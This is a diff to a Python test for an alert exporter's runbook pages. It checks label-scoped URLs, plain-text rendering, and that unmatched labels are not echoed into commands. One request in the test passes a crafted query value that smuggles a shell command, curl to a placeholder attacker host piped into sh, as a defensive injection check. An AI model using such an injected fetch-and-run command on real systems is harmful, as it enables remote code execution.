@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import json
 
 import httpx
@@ -32,7 +33,8 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
         assert result.exit_code == 0, result.output
         (alert,) = [a for a in json.loads(result.output)["alerts"] if a["alertname"] == "ReliableDeadLetterGrowth"]
         url = alert["annotations"]["runbook_url"]
-        assert url == f"{base}/runbooks/reliabledeadlettergrowth"
+        # The link carries the alert's labels: it opens this alert's jobs, not another actor's.
+        assert url == f"{base}/runbooks/reliabledeadlettergrowth?queue=mail&actor=send"
         page = httpx.get(url, timeout=30)
         other = httpx.get(url, params={"actor": "other"}, timeout=30)
         crafted = httpx.get(url, params={"queue": "mail $(curl -s evil.example|sh)"}, timeout=30)
@@ -45,8 +47,9 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
     for part in ("## Meaning", "## Mitigation", "Job `dead-1`: DEAD, queue `mail`, actor `send`",
                  "`reliable dlq requeue dead-1 --reason alert:ReliableDeadLetterGrowth`"):
         assert part in text, part
-    # The same rendering as `reliable alerts test --json` (the exporter runs with the default base URL).
-    assert text == alert["runbook"].replace(f"{base}/", "http://127.0.0.1:9464/")
+    # The same rendering as `reliable alerts test --json`: the exporter runs with the default base URL, so
+    # its links follow the address it is reached at (not 127.0.0.1:9464); plain text, no HTML entity.
+    assert text == html.unescape(alert["runbook"]) and "&#" not in text
     assert other.status_code == 200 and "dead-1" not in other.text  # no current alert for that actor
     assert "is not firing here now" in other.text and "(template error" not in other.text
     assert "--actor other" not in other.text  # labels that match no alert are not echoed into commands
@@ -54,5 +57,5 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
     assert promql.status_code == 200 and "# ReliableHeartbeatFailures (critical, route page, owner platform)" \
         in promql.text and "No job details" in promql.text
     assert index.status_code == 200
-    assert "http://127.0.0.1:9464/runbooks/reliablejobstuck  ReliableJobStuck (store)" in index.text
+    assert f"{base}/runbooks/reliablejobstuck  ReliableJobStuck (store)" in index.text
     assert missing.status_code == 404 and "/runbooks/" in missing.text
